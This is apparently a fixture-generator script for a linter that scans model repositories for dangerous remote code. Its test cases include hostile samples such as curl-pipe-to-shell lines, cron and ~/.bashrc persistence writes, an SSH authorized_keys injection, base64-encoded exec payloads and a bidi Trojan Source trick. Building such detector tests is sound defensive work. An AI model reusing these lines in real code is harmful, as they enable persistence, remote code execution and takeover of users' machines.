"""Write the HF501-HF508 golden cases (tests/golden/HF50x/{fail,pass}/<case>/).

Run from the repository root: ``python tests/golden/make_custom_code_fixtures.py``, then
``pytest tests/test_golden.py --update-goldens`` and review the expected.txt diffs. The
realistic remote-code model lives in tests/fixtures/custom_code/ only: a case that uses it
lists the files it shares in golden-base.txt (the golden runner copies them in), and holds
only what differs, so "clean apart from HF501" is checked on one source of truth. Each
dangerous-pattern case is one small module named after what it exercises.
"""

from __future__ import annotations

import hashlib
import json
import random
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
MODEL = ROOT / "tests" / "fixtures" / "custom_code"
MODEL_FILES = ("config.json", "configuration_x.py", "modeling_x.py", "rotary_x.py")
SHARED = ROOT / "tests" / "fixtures" / "custom_code_shared"
SHARED_RUFF_TOML = (
    "# Files several HF5xx golden cases share (a notebook export with IPython escapes is not\n"
    "# Python): written by tests/golden/make_custom_code_fixtures.py, not hflint code.\n"
    'extend = "../../../pyproject.toml"\nexclude = ["*.py"]\n'
)
BASE_MARKER = "golden-base.txt"
RULES = ("HF501", "HF502", "HF503", "HF504", "HF505", "HF506", "HF507", "HF508")
RUFF_TOML = (
    "# Golden cases are model repositories under test, hostile on purpose: not hflint code.\n"
    'extend = "../../../pyproject.toml"\nexclude = ["fail", "pass"]\n'
)
Files = dict[str, str | bytes]


def model() -> Files:
    return {name: (MODEL / name).read_bytes() for name in MODEL_FILES}


def review_file(files: Files, *, changed: str | None = None) -> str:
    sys.path.insert(0, str(ROOT / "linter"))
    from hflint.customcode.reviews import Record, dump

    records = {}
    for name, content in sorted(files.items()):
        if name.endswith(".py"):
            data = content.encode() if isinstance(content, str) else content
            digest = hashlib.sha256(data).hexdigest()
            records[name] = Record(digest, "Jane Reviewer", "2026-05-01", "read in full; tensors only")
    return dump(records)


def one_module(source: str) -> Files:
    """A minimal trust_remote_code repo whose modeling module is ``source``."""
    config = {"auto_map": {"AutoModel": "modeling_x.XModel"}, "model_type": "x"}
    return {"config.json": json.dumps(config, indent=2) + "\n", "modeling_x.py": source}


def hf501() -> dict[str, Files]:
    reviewed = model()
    broken = model()
    broken[".hflint-review.yaml"] = review_file(broken).replace("sha256: ", "sha256: xyz", 1)
    missing = {
        "config.json": json.dumps(
            {
                "model_type": "x",
                "auto_map": {
                    "AutoConfig": "configuration_x.XConfig",
                    "AutoModel": "modeling_missing.XModel",
                    "AutoModelForCausalLM": "modeling_x.sub.XForCausalLM",
                    "AutoModelForSequenceClassification": "a--b--modeling_x.XForSequenceClassification",
                },
            },
            indent=2,
        )
        + "\n",
        "configuration_x.py": (MODEL / "configuration_x.py").read_bytes(),
        "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": [None, "tokenization_x.XTokenizerFast"]}})
        + "\n",
    }
    other_routes = {
        "modules.json": json.dumps(
            [
                {"idx": 0, "name": "0", "path": "", "type": "custom_st.Embedder"},
                {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
            ],
            indent=2,
        )
        + "\n",
        "custom_st.py": "import torch\n\n\nclass Embedder(torch.nn.Module):\n    pass\n",
        "custom_generate/generate.py": "def generate(model, input_ids, **kwargs):\n    return model(input_ids)\n",
        "mlx/config.json": json.dumps({"model_type": "x", "model_file": "x_mlx.py"}) + "\n",
        "mlx/x_mlx.py": "import mlx.nn as nn\n\n\nclass Model(nn.Module):\n    pass\n",
        # Inference Endpoints runs handler.py with the repository on sys.path, so its absolute
        # import of generator.py loads that file too.
        "handler.py": "from generator import Generator\n\n\nclass EndpointHandler:\n    pass\n",
        "generator.py": "import torch\n\n\nclass Generator(torch.nn.Module):\n    pass\n",
        "pipeline.py": "from diffusers import DiffusionPipeline\n\n\nclass XPipeline(DiffusionPipeline):\n    pass\n",
        "model_index.json": json.dumps(
            {"_class_name": "XPipeline", "unet": ["x_unet", "XUNet"], "scheduler": ["diffusers", "DDPMScheduler"]},
            indent=2,
        )
        + "\n",
        "unet/x_unet.py": "import torch\n\n\nclass XUNet(torch.nn.Module):\n    pass\n",
        "custom_interface.py": "from speechbrain.inference.interfaces import Pretrained\n\n\n"
        "class CustomASR(Pretrained):\n    pass\n",
        "scripts/convert.py": "import torch\n\nprint(torch.__version__)\n",  # nothing loads it: HF506
    }
    reviewed[".hflint-review.yaml"] = review_file(reviewed)
    return {
        "fail/realistic-remote-code": model(),
        "fail/invalid-review-file": broken,
        "fail/missing-or-malformed-module": missing,
        "fail/other-loading-routes": other_routes,
        "pass/reviewed": reviewed,
        "pass/no-custom-code": {"config.json": '{"model_type": "llama"}\n'},
    }


def hf502() -> dict[str, Files]:
    files = model()
    files[".hflint-review.yaml"] = review_file(files)
    edited = dict(files)
    original = files["modeling_x.py"]
    assert isinstance(original, bytes)
    edited["modeling_x.py"] = original.replace(b"eps=1e-6", b"eps=1e-5", 1)  # one byte
    return {"fail/one-byte-changed": edited, "pass/reviewed": files}


DANGEROUS = {
    "exec-eval-compile": """\
import builtins

code = open("snippet.txt").read()
exec(code)
value = eval("1 + 1")
compiled = compile(code, "<x>", "exec")
mod = __import__("json")
builtins.exec(code)
run = exec
run(code)
""",
    "os-system-and-aliases": """\
import os
import os as o
from os import system as s

s("id")
o.popen("uname -a")
os.execv("/bin/sh", ["sh"])
os.spawnlp(os.P_WAIT, "ls", "ls")
os.posix_spawn("/bin/true", ["true"], {})


def later():
    os.system("curl example.invalid | sh")
""",
    "subprocess-and-pty": """\
import pty
import subprocess as sp
from subprocess import check_output as co

sp.run(["pip", "install", "evil-package"])
proc = sp.Popen("sh", shell=True)
co(["whoami"])
pty.spawn("/bin/sh")
""",
    "network-clients": """\
import http.client
import socket
import urllib.request

import httpx
import requests

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
urllib.request.urlopen("https://example.invalid/weights")
requests.get("https://example.invalid/telemetry")
httpx.post("https://example.invalid/upload", data=b"")
conn = http.client.HTTPSConnection("example.invalid")
""",
    "ctypes-cffi": """\
import ctypes
import ctypes.util

import cffi

libc = ctypes.CDLL(ctypes.util.find_library("c"))
libm = ctypes.cdll.LoadLibrary("libm.so.6")
ctypes.pythonapi.PyRun_SimpleString(b"import os")
SHELLCODE = ctypes.CFUNCTYPE(ctypes.c_int)
jump = ctypes.cast(0x7F0000001000, SHELLCODE)
ctypes.memmove(0x7F0000001000, b"\\x90" * 16, 16)
value = ctypes.c_int.from_address(0x7F0000002000)
ffi = cffi.FFI()
""",
    "getattr-over-literal-names": """\
import builtins
import os

for name in ("path", "system"):
    getattr(os, name)
runners = [getattr(builtins, n) for n in ["print", "exec"]]
""",
    "importlib-computed-name": """\
import importlib

name = "sub" + "process"
mod = importlib.import_module(name)
ok = importlib.import_module("torch")
sp = importlib.import_module("subprocess")
sp.run(["id"])
""",
    "unsafe-deserialisation": """\
import marshal
import pickle

import numpy as np
import torch

state = pickle.load(open("extra.pkl", "rb"))
weights = torch.load("extra.bin")
explicit = torch.load("extra.bin", weights_only=False)
safe = torch.load("extra.bin", weights_only=True)
code = marshal.loads(open("x.bin", "rb").read())
arrays = np.load("a.npy", allow_pickle=True)
plain = np.load("a.npy")
""",
    "decoded-payload-exec": """\
import base64
import codecs
import zlib

exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
payload = zlib.decompress(base64.b64decode("eJzLzC3ILypRSEksSQQAHLUEaw=="))
text = payload.decode()
eval(text)
exec(codecs.decode("vzcbeg bf", "rot13"))
exec("".join(chr(c) for c in [105, 109, 112, 111, 114, 116]))
""",
    "write-outside-working-dir": """\
import os
from pathlib import Path

open("/etc/cron.d/job", "w").write("* * * * * root sh\\n")
with open(os.path.expanduser("~/.bashrc"), "a") as fh:
    fh.write("curl example.invalid | sh\\n")
Path.home().joinpath(".ssh", "authorized_keys").write_text("ssh-ed25519 AAAA...")
open(os.path.join(os.path.dirname(__file__), "../other_model/modeling.py"), "w")
os.remove("/tmp/../etc/hosts")
open("outputs.txt", "w")
open("/etc/hosts").read()
""",
    "module-patching": """\
import builtins
import sys

import torch


def fake_load(*args, **kwargs):
    return {}


setattr(builtins, "print", lambda *a: None)
torch.load = fake_load
sys.modules["transformers"] = object()
__builtins__["open"] = fake_load
""",
    "dynamic-getattr": """\
import builtins
import os

getattr(os, "sys" + "tem")("id")
getattr(os, "system")("id")
getattr(builtins, "ex" + "ec")("print(1)")
__builtins__["ev" + "al"]
""",
    "star-import": """\
from subprocess import *

call(["id"])
""",
    "not-utf8": b"x = '\xff\xfe'\n",
    "null-byte": b"import torch\nx = 1\x00\n",
    "syntax-error": "import torch\n\ndef forward(self:\n    return self\n",
    "deep-nesting": "x = " + "(" * 300 + "1" + ")" * 300 + "\n",
    "recursion-in-parser": "x = " + " + ".join(["1"] * 200_000) + "\n",
    "suppression-problems": """\
import os

os.system("id")  # hflint: ignore[HF503]
x = 1  # hflint: ignore[HF503] nothing here to suppress
os.getcwd()  # hflint: ignore[HF501] the review rules are not suppressible inline
""",
}


def _obfuscation() -> dict[str, str | bytes]:
    rng = random.Random(503)
    b64 = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(400))
    hexblob = "".join(rng.choice("0123456789abcdef") for _ in range(512))
    raw = bytes(rng.randrange(256) for _ in range(300))
    numbers = ", ".join(str(rng.randrange(1000)) for _ in range(400))
    return {
        "long-line": f"TABLE = [{numbers}]\n",
        "base64-blob": f'BLOB = "{b64}"\n',
        "hex-blob": f'BLOB = "{hexblob}"\n',
        "bytes-blob": f"BLOB = {raw!r}\n",
        "bidi-trojan-source": 'access_level = "user"\nif access_level != "user\u202e \u2066# admin\u2069 \u2066":\n'
        "    pass\n",
    }


SAFE_LOOKALIKES = """\
import importlib
import json
import os
import re

import torch
import yaml

PATTERN = re.compile(r"\\s+")
PROMPT = "你是一个乐于助人的助手。请用简洁、准确、友好的语言回答用户的问题。" * 8
DOC = \"\"\"A long docstring. \"\"\" + "lorem ipsum dolor sit amet " * 40


class Model(torch.nn.Module):
    def compile(self):
        return self

    def load(self, path):
        state = torch.load(path, weights_only=True, map_location="cpu")
        with open(os.path.join(os.path.dirname(__file__), "vocab.json")) as fh:
            vocab = json.load(fh)
        settings = yaml.safe_load(open("settings.yaml"))
        backend = importlib.import_module("torch.nn.functional")
        self.eval()
        self.compile()
        return state, vocab, settings, backend


model = Model()
model.eval()
compiled = torch.compile(model)
"""


# ChatGLM-style quantization: tensor pointers and sizes handed to a compiled kernel as ctypes
# values, dtype and device lookups over literal names. Written for hflint from the constructs
# of ChatGLM/ChatGLM2/ChatGLM3 quantization.py and Baichuan's quantizer.py (not copied).
QUANTIZATION = """\
import ctypes

import torch


class Kernels:
    def __init__(self, module, names):
        for name in names:
            setattr(self, name, module.function(name))


def compress(kernels, weight, out):
    n, m = weight.size(0), weight.size(1)
    kernels.compress(
        (n, 1, 1),
        (min(m, 1024), 1, 1),
        0,
        torch.cuda.current_stream(),
        [ctypes.c_void_p(weight.data_ptr()), ctypes.c_void_p(out.data_ptr()), ctypes.c_int32(n), ctypes.c_int32(m)],
    )
    return out


def half_types():
    return [getattr(torch, name) for name in ("float16", "bfloat16")]


def accelerator():
    for backend in ("cuda", "xpu", "mps"):
        module = getattr(torch, backend, None)
        if module is not None and module.is_available():
            return backend
    return "cpu"
"""


def _embedded_kernel() -> str:
    """What ChatGLM's quantization.py also carries: a compiled kernel, bz2 and base64
    encoded, handed to a kernel loader (not to exec). The blob is random bytes."""
    import base64
    import bz2

    blob = base64.b64encode(bz2.compress(random.Random(11).randbytes(600))).decode()
    return f'KERNEL_CODE = "{blob}"\n'


def importing(*modules: str) -> Files:
    """The shared model's config, and a modeling file that imports ``modules`` relatively."""
    source = "".join(f"from .{m} import *  # noqa: F403\n" for m in modules) + "\n\nclass XModel:\n    pass\n"
    return {"config.json": model()["config.json"], "modeling_x.py": source}


def loaded(source: str | bytes) -> Files:
    """``source`` as modeling_x.py, loaded through the shared model's auto_map."""
    return {"config.json": model()["config.json"], "modeling_x.py": source}


def hf503() -> dict[str, Files]:
    cases: dict[str, Files] = {"pass/realistic-remote-code": model()}
    for name, source in {**DANGEROUS, **_obfuscation()}.items():
        cases[f"fail/{name}"] = loaded(source)
    # The kernels' ctypes values are silent; the embedded kernel beside them is reported.
    cases["fail/chatglm-embedded-kernel"] = {
        **importing("quantization", "kernel_code"),
        "quantization.py": QUANTIZATION,
        "kernel_code.py": _embedded_kernel(),
    }
    cases["pass/chatglm-quantization-kernels"] = {**importing("quantization"), "quantization.py": QUANTIZATION}
    cases["pass/safe-lookalikes"] = loaded(SAFE_LOOKALIKES)
    cases["pass/latin1-coding-cookie"] = loaded("# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n".encode("latin-1"))
    # A script nothing loads is not trust_remote_code code: HF507 reports it, not HF503.
    cases["pass/script-nothing-loads"] = {**model(), "scripts/train.py": "import os\n\nos.system('nvidia-smi')\n"}
    return cases


# A notebook saved as .py (Colab "Download .py"): IPython escapes as they are written.
NOTEBOOK = """\
# -*- coding: utf-8 -*-
\"\"\"Fine-tune the model (exported from Colab).\"\"\"

!pip install -q transformers==4.44.0 peft accelerate
%matplotlib inline
import torch

!nvidia-smi
files = !ls data
%%bash
wget -q https://example.invalid/data.zip
unzip data.zip

%run prepare.py
print(torch.__version__, files)
"""
# The same notebook as `jupyter nbconvert --to script` writes it: valid Python.
NBCONVERT = """\
#!/usr/bin/env python
# coding: utf-8

# In[ ]:


get_ipython().system('pip install -q bitsandbytes')
get_ipython().run_line_magic('pip', 'install datasets')
get_ipython().run_line_magic('matplotlib', 'inline')


# In[ ]:


get_ipython().system('wget -q https://example.invalid/data.zip')
"""
TRAINING = """\
import os
import subprocess

import torch

os.system("nvidia-smi")
subprocess.run(["accelerate", "launch", "train.py"], check=True)
torch.save({}, "checkpoint.pt")
"""


def hf506() -> dict[str, Files]:
    reviewed = {**model(), "Training.py": TRAINING}
    reviewed[".hflint-review.yaml"] = review_file(reviewed)
    return {
        "fail/scripts-and-notebook-export": {
            **model(),
            "Training.py": TRAINING,
            "tests/smoke_model.py": "from modeling_x import XModel\n\nprint(XModel)\n",
            "colab_export.py": NOTEBOOK,
        },
        "pass/loaded-code-only": model(),
        "pass/reviewed-script": reviewed,
    }


def hf507() -> dict[str, Files]:
    return {
        "fail/training-script": {**model(), "Training.py": TRAINING},
        "fail/notebook-export": {**model(), "colab_export.py": NOTEBOOK, "nbconvert_export.py": NBCONVERT},
        "pass/notebook-installs-and-magics": {
            **model(),
            "colab_export.py": "!pip install -q peft\n%matplotlib inline\n%load_ext autoreload\nimport torch\n",
        },
        "pass/loaded-code-is-hf503s": loaded("import os\n\nos.system('id')\n"),
    }


def hf508() -> dict[str, Files]:
    return {
        "fail/notebook-package-installs": {**model(), "colab_export.py": NOTEBOOK, "nbconvert_export.py": NBCONVERT},
        "pass/notebook-without-installs": {**model(), "colab_export.py": "%matplotlib inline\nimport torch\n"},
        "pass/script-calls-pip-is-hf507s": {
            **model(),
            "setup_env.py": "import subprocess\n\nsubprocess.run(['pip', 'install', 'peft'])\n",
        },
    }


def hf504() -> dict[str, Files]:
    remote = {
        "config.json": json.dumps(
            {
                "model_type": "x",
                "auto_map": {
                    "AutoConfig": "someorg/base-model--configuration_x.XConfig",
                    "AutoModelForCausalLM": "someorg/base-model--modeling_x.XForCausalLM",
                },
            },
            indent=2,
        )
        + "\n",
        "tokenizer_config.json": json.dumps(
            {"auto_map": {"AutoTokenizer": [None, "otherorg/tok--tokenization_x.XTokenizerFast"]}}, indent=2
        )
        + "\n",
    }
    return {"fail/remote-auto-map": remote, "pass/local-auto-map": model()}


def hf505() -> dict[str, Files]:
    def config(extra: dict[str, object]) -> Files:
        return {"config.json": json.dumps({"model_type": "llama", **extra}, indent=2) + "\n"}

    return {
        "fail/attn-implementation-repo-id": config(
            {
                "_attn_implementation_internal": "someone/flash-kernels",
                "text_config": {"attn_implementation": "kernels-community/flash-attn"},
            }
        ),
        "fail/nested-trust-remote-code": config({"text_config": {"model_type": "x", "trust_remote_code": True}}),
        "fail/mlx-model-file": config({"model_file": "model.py"}),
        "fail/peft-parent-library": {
            "adapter_config.json": json.dumps(
                {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "netpkg"}}, indent=2
            )
            + "\n"
        },
        "fail/modules-json-custom-type": {
            "modules.json": json.dumps(
                [
                    {"idx": 0, "name": "0", "path": "", "type": "custom_st.Embedder"},
                    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
                ],
                indent=2,
            )
            + "\n"
        },
        "fail/custom-generate": {"custom_generate/generate.py": "def generate(model, input_ids, **kw):\n    pass\n"},
        "pass/known-libraries": {
            **config({"attn_implementation": "sdpa", "text_config": {"_attn_implementation": "flash_attention_2"}}),
            "adapter_config.json": json.dumps(
                {
                    "peft_type": "LORA",
                    "auto_mapping": {
                        "base_model_class": "LlamaForCausalLM",
                        "parent_library": "transformers.models.llama.modeling_llama",
                    },
                }
            )
            + "\n",
            "modules.json": json.dumps(
                [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
            )
            + "\n",
        },
    }


def shared_files() -> Files:
    """Files several cases share, kept once in tests/fixtures/custom_code_shared/ (golden-base.txt)."""
    return {"quantization.py": QUANTIZATION, "colab_export.py": NOTEBOOK, "nbconvert_export.py": NBCONVERT,
            "Training.py": TRAINING}


def write(rule: str, cases: dict[str, Files]) -> None:
    base = HERE / rule
    for outcome in ("fail", "pass"):
        for old in (base / outcome).glob("*/"):
            expected = old / "expected.txt"
            keep = expected.read_bytes() if expected.exists() else None
            shutil.rmtree(old)
            if keep is not None and f"{outcome}/{old.name}" in cases:
                old.mkdir(parents=True)
                expected.write_bytes(keep)
    sources = {f"fixtures/custom_code/{n}": c for n, c in model().items()}
    sources |= {f"{SHARED.relative_to(ROOT / 'tests').as_posix()}/{n}": c for n, c in shared_files().items()}
    for case, files in cases.items():
        # Files equal to a shared one are not copied: the case names them in golden-base.txt
        # and the golden runner copies them in (tests/test_golden.py).
        shared = {rel: src for src, content in sources.items() for rel in files
                  if rel == src.rsplit("/", 1)[-1] and files[rel] == content}
        files = {rel: content for rel, content in files.items() if rel not in shared}
        if shared:
            files[BASE_MARKER] = "".join(f"{src}\n" for src in sorted(shared.values()))
        for rel, content in files.items():
            path = base / case / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    (base / "ruff.toml").write_text(RUFF_TOML)


def main() -> None:
    SHARED.mkdir(exist_ok=True)
    for name, content in shared_files().items():
        (SHARED / name).write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    (SHARED / "ruff.toml").write_text(SHARED_RUFF_TOML)
    for rule, make in zip(RULES, (hf501, hf502, hf503, hf504, hf505, hf506, hf507, hf508), strict=True):
        write(rule, make())


if __name__ == "__main__":
    main()
